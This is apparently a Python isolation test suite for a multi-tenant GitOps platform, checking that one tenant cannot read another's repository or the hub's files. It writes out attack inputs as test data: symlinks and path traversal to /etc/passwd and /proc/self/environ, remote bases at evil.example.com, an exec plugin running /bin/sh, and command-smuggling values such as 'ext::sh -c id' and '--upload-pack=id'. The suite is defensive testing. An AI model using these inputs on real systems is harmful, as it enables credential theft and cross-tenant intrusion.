"""Files that a tenant may not read: other Repositories, and what lies outside of its own, by links, bases and generators."""

import json
from typing import Any

from tests.behaviour.cluster import condition
from tests.behaviour.manifests import application, config_map, file_of, repository
from tests.isolation.attack import (
    MALLORY,
    VICTORIA,
    ByGit,
    ByRequest,
    Loot,
    Stopped,
    Wall,
    each_by_git,
    each_request,
)
from tests.isolation.field import GIT, MEMBER_OF_MALLORY, Field

FAMILY = "sources"
SPACE = f"tenant-{MALLORY}"
READ = (Loot("east", "ConfigMap", "hers", MALLORY),)
"""Where the victim's objects would stand, had the attacker read her repository."""
PASSWD = (Loot("east", "ConfigMap", "passwd", MALLORY),)


def kustomize(
    name: str,
    wall: tuple[Wall, str],
    files: dict[str, Any] | None = None,
    loot: tuple[Loot, ...] = PASSWD,
    **fields: Any,
) -> ByGit:
    return ByGit(name, *wall, {"kustomization.yaml": file_of(fields), **(files or {})}, loot=loot)


def reads(name: str, path: str, wall: tuple[Wall, str]) -> ByGit:
    return kustomize(name, wall, configMapGenerator=[{"name": "passwd", "files": [path]}])


REMOTE, OUTSIDE, LINK = (
    (Wall.RENDERER, "RemoteBase"),
    (Wall.RENDERER, "UnreadableTree"),
    (Wall.RENDERER, "UnreadableTree"),
)
FAILED = (Wall.RENDERER, "KustomizeFailed")
PLUGIN = {
    "apiVersion": "v1",
    "kind": "Exec",
    "metadata": {"name": "x", "annotations": {"config.kubernetes.io/function": "exec: {path: /bin/sh}"}},
}
GIT_ATTACKS = (
    ByGit(
        "another tenant's Repository, by name",
        Wall.SOURCE,
        "RepositoryNotFound",
        {"a.yaml": ""},
        spec={"source": {"repository": "hers", "path": "apps/web"}},
        loot=READ,
    ),
    ByGit(
        "the platform's Repository, by name",
        Wall.SOURCE,
        "RepositoryNotFound",
        {"a.yaml": ""},
        spec={"source": {"repository": "platform", "path": "tenants"}},
    ),
    ByGit(
        "a folder that is a link to another",
        *LINK,
        {"a.txt": ""},
        links={"b": "/etc"},
        spec={"source": {"repository": "team", "path": "sources-02/b"}},
    ),
    ByGit(
        "a file that is a link to the hub's files",
        *LINK,
        {"a.yaml": config_map("unused")},
        links={"b.yaml": "/etc/passwd"},
        loot=PASSWD,
    ),
    ByGit(
        "a file that is a link out of the repository",
        *LINK,
        {"a.yaml": config_map("unused")},
        links={"b.yaml": "../../../../../../etc/passwd"},
        loot=PASSWD,
    ),
    kustomize("a remote base by https", REMOTE, resources=["https://evil.example.com/base.yaml"]),
    kustomize("a remote base by git", REMOTE, resources=["git::https://evil.example.com/base.git//x?ref=main"]),
    kustomize("a remote base by ssh", REMOTE, resources=["git@evil.example.com:base.git"]),
    kustomize("a remote base by its short form", REMOTE, resources=["github.com/evil/base//x?ref=main"]),
    kustomize(
        "a remote base below a local one",
        REMOTE,
        {"base/kustomization.yaml": "resources: ['https://evil.example.com/x.yaml']\n"},
        resources=["base"],
    ),
    kustomize(
        "a remote base of another tenant's repository",
        REMOTE,
        loot=READ,
        resources=[f"{GIT}/{VICTORIA}/deploy.git//apps/web"],
    ),
    kustomize("a base outside of the repository", OUTSIDE, resources=["../../../../../etc"]),
    reads("a generator that reads the hub's files", "/etc/passwd", FAILED),
    reads("a generator that reads the hub's credentials", "../../../../../../../proc/self/environ", OUTSIDE),
    kustomize(
        "a patch from outside",
        FAILED,
        {"a.yaml": config_map("x")},
        resources=["a.yaml"],
        patches=[{"path": "/etc/passwd", "target": {"kind": "ConfigMap"}}],
    ),
    kustomize(
        "a program as a transformer",
        (Wall.RENDERER, "KustomizeFailed"),
        {"a.yaml": config_map("passwd"), "t.yaml": PLUGIN},
        resources=["a.yaml"],
        transformers=["t.yaml"],
    ),
    kustomize(
        "a Helm chart by kustomize",
        (Wall.RENDERER, "RendererUnavailable"),
        helmCharts=[{"name": "x", "repo": "https://evil.example.com"}],
    ),
)
REQUESTS = tuple(
    ByRequest(name, Wall.ADMISSION, "hub", MEMBER_OF_MALLORY, ("create", "-f", "-"), says, body)
    for name, says, body in (
        (
            "a URL with a user",
            "the URL names no user",
            repository("stolen", SPACE, "https://eve:secret@git.example.com/x"),
        ),
        ("ext:: runs a program", "write an https:// URL", repository("stolen", SPACE, "ext::sh -c id")),
        ("git:// and ssh", "write an https:// URL", repository("stolen", SPACE, "ssh://git.example.com/x")),
        (
            "an option in place of a branch",
            "write the name of a branch",
            repository("stolen", SPACE, "https://git.example.com/x", ref={"branch": "--upload-pack=id"}),
        ),
        ("a path with ..", "a path may not leave its repository", application("stolen", SPACE, "apps/../../x")),
        ("a path from the root", "a path begins at the repository's root", application("stolen", SPACE, "/etc")),
        (
            "a Repository that the Tenant does not list",
            "from this address",
            repository("stolen", SPACE, "https://git.example.com/x"),
        ),
        ("a file on the hub", "from this address", repository("stolen", SPACE, "file:///etc")),
        (
            "a placement in another's namespace",
            "into namespace",
            application("stolen", SPACE, "x", placement={"namespace": VICTORIA}),
        ),
        (
            "another namespace's Repository",
            "write an object's name",
            application("stolen", SPACE, "x", repository="tenant-victoria/team"),
        ),
    )
)


@each_by_git(FAMILY, GIT_ATTACKS)
async def test_by_git(mounted: Field, slug: str, attack: ByGit, stopped: Stopped) -> None:
    stopped(attack.name, *await mounted.refused(slug, attack))


@each_request(REQUESTS)
async def test_by_request(mounted: Field, attack: ByRequest, stopped: Stopped) -> None:
    stopped(attack.name, *await mounted.request_refused(attack))


async def test_a_submodule_is_not_fetched(mounted: Field, stopped: Stopped) -> None:
    team = mounted.attacker
    here = team.checkout.folder
    (here / "module/inner").mkdir(parents=True, exist_ok=True)
    head = await mounted.victim.checkout.git("rev-parse", "HEAD")
    await team.checkout.git("update-index", "--add", "--cacheinfo", f"160000,{head},module/inner")
    modules = f'[submodule "inner"]\n\tpath = module/inner\n\turl = {mounted.victim.url}\n'
    await team.push({".gitmodules": modules, "module/kustomization.yaml": "resources: [inner]\n"})
    assert "160000" in await team.checkout.git("ls-tree", "HEAD", "module/inner")
    await team.deploy("module", "module")
    problem = await team.problem("module", "UnreadableTree")
    assert "submodule" in problem["message"]
    await mounted.unharmed(READ)
    stopped("a submodule of another tenant's repository", Wall.RENDERER, "UnreadableTree")


async def test_another_tenants_credentials(mounted: Field, stopped: Stopped) -> None:
    """A Secret is looked for in the Repository's own namespace, whatever is written."""
    body = repository("borrowed", SPACE, mounted.attacker.url, secretRef={"name": "git-credentials"})
    await mounted.hub.apply(body)
    await mounted.hub.until(
        "the credentials are missing", "Repository", "borrowed",
        lambda found: condition(found, "Ready").reason == "CredentialsMissing", namespace=SPACE,
    )  # fmt: skip
    elsewhere = repository(
        "stolen", SPACE, mounted.attacker.url, secretRef={"name": "git-credentials", "namespace": f"tenant-{VICTORIA}"}
    )
    ran = await mounted.hub.try_kubectl(*MEMBER_OF_MALLORY, "create", "-f", "-", stdin=json.dumps(elsewhere))
    assert (ran.code, "unknown field" in ran.err) == (1, True)
    await mounted.unharmed()
    stopped("another tenant's credentials", Wall.SOURCE, "CredentialsMissing")
